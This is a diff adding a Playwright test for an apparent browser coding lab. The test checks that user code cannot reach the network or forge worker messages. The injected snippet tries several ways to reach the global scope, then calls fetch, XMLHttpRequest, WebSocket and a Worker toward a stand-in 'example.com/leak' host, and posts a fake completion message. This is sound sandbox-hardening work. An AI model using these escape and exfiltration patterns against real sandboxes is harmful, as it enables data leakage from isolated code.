@@ -89,6 +89,36 @@ test('a loop that never yields is stopped with a plain message, and the next run
   expect((await lab.lastSummary())?.status).toBe('completed');
 });
 
+test('user code cannot reach the network or post to the page', async ({ lab, page }) => {
+  const id = await firstScenario(lab);
+  await lab.openScenario(id);
+  const starter = (await lab.code())!;
+  // Every way to the real worker scope we know of, then every way out of it.
+  const escape = `
+const realms: any[] = [];
+for (const get of [() => globalThis, () => (globalThis as any).self, () => Function('return this')(), () => (0, eval)('this')]) {
+  try { realms.push(get()); } catch {}
+}
+for (const g of realms) {
+  for (const attempt of [
+    () => g.fetch('https://example.com/leak').catch(() => undefined),
+    () => new g.XMLHttpRequest().open('GET', 'https://example.com/leak'),
+    () => new g.WebSocket('wss://example.com/leak'),
+    () => new g.Worker('data:text/javascript,fetch("https://example.com/leak")'),
+    () => g.postMessage({ type: 'run.done', runId: 1, summary: {}, simulateMs: 0 }),
+  ]) {
+    try { attempt(); } catch {}
+  }
+}
+`;
+  await lab.setCode(`${starter}\n${escape}`);
+  await lab.run();
+  expect(await lab.waitForRunEnd()).toBe('done');
+  expect((await lab.lastSummary())?.scenarioId).toBe(id);
+  // The guard fixture fails the test if any request left 127.0.0.1.
+  await page.waitForTimeout(500);
+});
+
 test('code typed into the editor survives a reload', async ({ lab, page }) => {
   const id = await firstScenario(lab);
   await lab.openScenario(id);
